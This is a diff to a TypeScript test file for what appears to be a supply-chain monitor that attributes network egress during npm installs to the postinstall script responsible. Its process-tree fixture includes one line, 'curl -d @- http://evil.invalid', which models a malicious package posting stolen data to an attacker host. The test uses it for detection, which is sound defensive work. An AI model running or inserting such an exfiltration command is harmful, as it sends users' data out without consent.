@@ -2,11 +2,11 @@ import { describe, expect, it } from 'vitest';
 import { buildReport } from '../../src/report/build.js';
 import { Contacts } from '../../src/report/contacts.js';
 import { reportSchema } from '../../src/report/report.js';
-import { alertAt, evidence, folded, NPM, PROJECT, pkg, REFUSED, treeOf } from './evidence.js';
+import { alertAt, evidence, folded, PROJECT, pkg, REFUSED, scriptsOf, treeOf } from './evidence.js';
 
 describe('egress is attributed to the process that asked', () => {
   const packages = [pkg('.', ['a']), pkg('node_modules/a', [], ['postinstall'])];
-  const tree = treeOf([...NPM, [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js']]);
+  const tree = treeOf([...scriptsOf('a'), [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js']]);
   const asked = (rule: string, fields: Record<string, string>) => {
     const contacts = new Contacts();
     contacts.add(alertAt(3, rule, { 'proc.pid': '20', ...fields }, 'DEBUG'));
@@ -77,9 +77,10 @@ const packages = [
   pkg('node_modules/b', [], ['postinstall']),
 ];
 const tree = treeOf([
-  ...NPM,
+  ...scriptsOf('a', 10),
+  ...scriptsOf('b', 11),
   [2, 20, 10, `${PROJECT}/node_modules/a`, 'node setup.js'],
-  [2, 30, 10, `${PROJECT}/node_modules/b`, 'curl -d @- http://evil.invalid'],
+  [2, 30, 11, `${PROJECT}/node_modules/b`, 'curl -d @- http://evil.invalid'],
 ]);
 
 describe('what the gateway saw', () => {
